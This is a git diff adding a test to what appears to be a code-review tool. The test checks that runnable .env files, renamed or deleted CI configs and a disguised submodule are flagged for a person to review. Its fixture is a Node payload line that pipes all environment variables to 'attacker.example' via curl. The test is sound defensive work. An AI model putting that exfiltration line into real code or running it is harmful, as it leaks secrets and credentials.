@@ -1013,3 +1013,72 @@ describe('#148 built code and what an action names to run, wherever it lives', (
     );
   });
 });
+
+describe('#152 what runs, reached another way: a command that names it, a rename, a root CI file, a submodule under a secret name', () => {
+  it('#152 a plain .env a command runs (a composite step, a Docker entrypoint, a workflow step), a workflow or lockfile renamed away, a root CI file deleted, a submodule at a .env path: each needs a person', async () => {
+    const repo = makeCartRepo();
+    write(
+      repo,
+      'tools/setup/action.yml',
+      'runs:\n  using: composite\n  steps:\n    - run: node "$GITHUB_ACTION_PATH/.env"\n      shell: bash\n',
+    );
+    write(repo, 'tools/scan/action.yml', 'runs:\n  using: docker\n  image: Dockerfile\n  entrypoint: /a/.env\n');
+    write(repo, 'tools/scan/Dockerfile', 'FROM node:20\nCOPY .env /a/.env\n');
+    write(repo, '.github/workflows/ci.yml', 'on: push\njobs: { t: { runs-on: ubuntu-latest, steps: [{ run: node tools/ci/.env }] } }\n');
+    write(
+      repo,
+      '.github/workflows/security.yml',
+      'on: pull_request\njobs: { s: { runs-on: ubuntu-latest, steps: [{ run: make audit }] } }\n',
+    );
+    write(repo, '.github/workflows/lint.yml', 'on: pull_request\njobs: { l: { runs-on: ubuntu-latest, steps: [{ run: make lint }] } }\n');
+    write(repo, 'package-lock.json', '{ "lockfileVersion": 3 }\n');
+    for (const ci of ['.gitlab-ci.yml', 'Jenkinsfile', '.pre-commit-config.yaml']) write(repo, ci, 'test: make check\n');
+    commitAll(repo, 'CI');
+    const payload = 'require("child_process").execSync("env | curl -d @- https://attacker.example");\n';
+    for (const path of ['tools/setup/.env', 'tools/scan/.env', 'tools/ci/.env', 'config/.env']) write(repo, path, payload);
+    mkdirSync(join(repo, 'docs/ci'), { recursive: true });
+    git(repo, 'mv', '.github/workflows/security.yml', 'docs/ci/security.yml');
+    git(repo, 'mv', '.github/workflows/lint.yml', '.github/lint.yml.disabled');
+    git(repo, 'mv', 'package-lock.json', 'docs/lock-snapshot.json');
+    git(repo, 'rm', '-q', '.gitlab-ci.yml', 'Jenkinsfile', '.pre-commit-config.yaml');
+    write(repo, 'src/cart.js', `${CART_V2}// reviewed\n`);
+    git(repo, 'add', '-A');
+    git(repo, 'update-index', '--add', '--cacheinfo', `160000,${rev(repo, 'HEAD')},lib/.env`);
+    git(repo, 'commit', '-qm', 'the change');
+    // A submodule not checked out: an empty folder, as a checkout leaves it.
+    mkdirSync(join(repo, 'lib/.env'), { recursive: true });
+    const r = cli(repo, ['review', 'scope', ID, '--base', 'HEAD~1']);
+    expect(r.code, r.stderr).toBe(0);
+    const listed = /a person must look at \d+ changed file\(s\) no agent reviews: (.*)/.exec(r.stdout)?.[1]?.split(', ') ?? [];
+    const expected = [
+      'tools/setup/.env',
+      'tools/scan/.env',
+      'tools/ci/.env',
+      'docs/ci/security.yml',
+      '.github/lint.yml.disabled',
+      'docs/lock-snapshot.json',
+      '.gitlab-ci.yml',
+      'Jenkinsfile',
+      '.pre-commit-config.yaml',
+      'lib/.env',
+    ];
+    // A plain .env nothing names stays a plain secret, as the seed's transcript has it.
+    expect([...listed].sort()).toEqual([...expected].sort());
+    const scope = readScope(repo) as Scope & { excluded: { path: string; runBy?: string }[] };
+    expect(scope.excluded.find((e) => e.path === 'tools/ci/.env')?.runBy).toBe('.github/workflows/ci.yml');
+    expect(scope.files.find((f) => f.path === 'lib/.env')?.kind).toBe('submodule');
+    answer(
+      repo,
+      [],
+      readScope(repo).files.map((f) => f.path),
+    );
+    const event = prEvent(repo, 'HEAD~1');
+    expectIncomplete(
+      await gate(repo, {}, event),
+      /10 changed file\(s\) that no agent reviews: a person must look at each/,
+      rev(repo, 'HEAD'),
+    );
+    const acknowledged = await gate(repo, { acknowledge: expected.join('\n') }, event);
+    expect(acknowledged.outputs.verdict, acknowledged.summary.slice(0, 4000)).toBe('clean');
+  });
+});
